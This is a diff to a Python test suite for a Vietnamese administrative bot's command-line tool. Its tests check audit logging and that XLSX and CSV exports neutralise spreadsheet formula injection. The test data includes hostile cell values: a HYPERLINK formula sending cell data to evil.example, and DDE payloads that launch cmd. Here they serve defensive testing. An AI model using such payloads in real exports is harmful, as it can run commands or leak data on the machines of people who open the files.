@@ -5,8 +5,12 @@ loop), on the hand-counted province."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import getpass
 import io
+import json
+from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pytest
@@ -14,6 +18,7 @@ from matplotlib import image
 from sqlalchemy import select
 
 from bot.cli import main
+from storage.exports import is_risky
 from storage.models import OutboxMessage, OutboxStatus, Role
 
 
@@ -74,7 +79,7 @@ async def test_broadcasts_from_the_command_line_stay_in_scope(run, session, worl
     status, _out, err = await run(
         "broadcast", "create", "--as", "CA", "--unit", "XB", "--text", "Họp"
     )
-    assert (status, err) == (1, "Không có đơn vị nào mã XB.\n")
+    assert (status, err) == (1, "Không có đơn vị nào có mã hoặc tên XB.\n")
     status, _out, err = await run("broadcast", "create", "--as", "A2", "--text", "Họp")
     assert status == 1 and "không có vai trò phụ trách" in err
 
@@ -118,6 +123,14 @@ async def test_broadcasts_from_the_command_line_stay_in_scope(run, session, worl
     assert sorted(row[0].value for row in rows) == ["A3", "A5"]
     assert (await run("broadcast", "report", str(number), "--as", "A2"))[0] == 1
 
+    _status, out, _err = await run("audit", "--action", "scope.refused")
+    actor = f"cli:{getpass.getuser()}"
+    assert [line.split("  ")[1:] for line in out.splitlines()[0::2]] == [
+        [f"{actor} as A2", "scope.refused", "canbo broadcast"],
+        [f"{actor} as A2", "scope.refused", "canbo broadcast"],
+        [f"{actor} as CA", "scope.refused", "unit:B"],
+    ]
+
 
 async def test_qualification_reports_from_the_command_line(run, world, tmp_path):
     status, _out, err = await run(
@@ -126,7 +139,7 @@ async def test_qualification_reports_from_the_command_line(run, world, tmp_path)
     assert (status, err) == (1, "Đơn vị B không thuộc phạm vi của anh/chị.\n")
     for acting in ((), ("--as", "CA")):  # an operator, and a coordinator
         status, _out, err = await run("report", "qualifications", *acting, "--unit", "XA")
-        assert (status, err) == (1, "Không có đơn vị nào mã XA.\n")
+        assert (status, err) == (1, "Không có đơn vị nào có mã hoặc tên XA.\n")
 
     status, out, _err = await run(
         "report", "qualifications", "--unit", "A", "--on", "01/11/2026", "--compare", "2025-06-01"
@@ -151,3 +164,84 @@ async def test_qualification_reports_from_the_command_line(run, world, tmp_path)
 
     _status, out, _err = await run("audit", "--action", "report", "--limit", "1")
     assert out.splitlines()[0].split("  ")[-2:] == ["report.qualifications", "P"]
+    _status, out, _err = await run("audit", "--action", "scope.refused")
+    assert out.splitlines()[0].split("  ")[-2:] == ["scope.refused", "unit:B"]
+
+    status, _out, _err = await run("status", "A1", "--on", "01/11/2026")
+    _status, out, _err = await run("audit", "--limit", "1")
+    assert status == 0 and out.splitlines()[0].split("  ")[-2:] == ["report.status", "A1"]
+
+
+HOSTILE = {
+    "A1": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "A2": "-2+3+cmd|' /C calc'!A0",
+    "A3": "+84912345678",
+    "A5": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "B1": "\t=1+2",
+    "B2": "#N/A",
+}
+CARRIAGE_RETURN = "\r=cmd"  # XML reads a raw CR back as LF: compared apart
+
+
+def _data_cells(path: Path) -> list[Any]:
+    """Every cell holding a value, in every sheet of the workbook at ``path``."""
+    book = openpyxl.load_workbook(path)
+    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
+
+
+async def test_no_roster_value_becomes_a_formula_in_a_workbook(run, session, world, tmp_path):
+    for code, name in [*HOSTILE.items(), ("A4", CARRIAGE_RETURN)]:
+        world.people[code].full_name = name
+    world.a.name = "=1+1"
+    await session.commit()
+
+    status, _out, _err = await run(
+        "report",
+        "qualifications",
+        "--unit",
+        "P",
+        "--format",
+        "xlsx",
+        "--on",
+        "01/11/2026",
+        "--output",
+        "q.xlsx",
+    )
+    assert status == 0
+    status, out, _err = await run("broadcast", "create", "--admin", "--unit", "P", "--text", "Họp")
+    assert status == 0
+    number = out.split("Thông báo #")[1].split()[0]
+    status, _out, _err = await run("broadcast", "report", number, "--admin", "--xlsx", "d.xlsx")
+    assert status == 0
+
+    for name in ("q.xlsx", "d.xlsx"):
+        cells = _data_cells(tmp_path / name)
+        assert {cell.data_type for cell in cells} <= {"s", "n"}, name
+        assert all(isinstance(cell.value, str) for cell in cells if cell.data_type == "s")
+        risky = [cell for cell in cells if cell.data_type == "s" and is_risky(cell.value)]
+        assert all(cell.quotePrefix for cell in risky), name  # text even once edited
+        assert set(HOSTILE.values()) <= {cell.value for cell in cells}, name  # kept as they are
+        (returned,) = [cell for cell in cells if str(cell.value).endswith("=cmd")]
+        assert returned.data_type == "s" and returned.quotePrefix
+    assert "=1+1, 01/11/2026" in {cell.value for cell in _data_cells(tmp_path / "q.xlsx")}
+
+
+async def test_the_audit_log_exports_as_csv_with_no_live_formula(run, world, tmp_path):
+    (tmp_path / "=1+1.csv").write_text('Họ và tên\n=HYPERLINK("x")\n', encoding="utf-8")
+    await run("import", "officials", "=1+1.csv")
+    await run("roles", "grant", "--official", "B2", "--role", "coordinator", "--unit", "B")
+
+    status, out, _err = await run("audit", "--export", "nhat-ky.csv")
+
+    assert (status, out) == (0, "Đã ghi 2 mục vào nhat-ky.csv.\n")
+    with (tmp_path / "nhat-ky.csv").open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.reader(file))
+    assert rows[0] == ["Thời điểm", "Người thực hiện", "Hành động", "Đối tượng", "Chi tiết"]
+    assert [row[2:4] for row in rows[1:]] == [
+        ["role.grant", "B2"],
+        ["import.officials", "'=1+1.csv"],  # an apostrophe: text, not a formula
+    ]
+    assert json.loads(rows[2][4])["outcome"] == "rejected"
+    assert rows[1][0].endswith("+07:00")
+    _status, out, _err = await run("audit", "--limit", "1")
+    assert out.splitlines()[0].split("  ")[-2:] == ["audit.export", "nhat-ky.csv"]
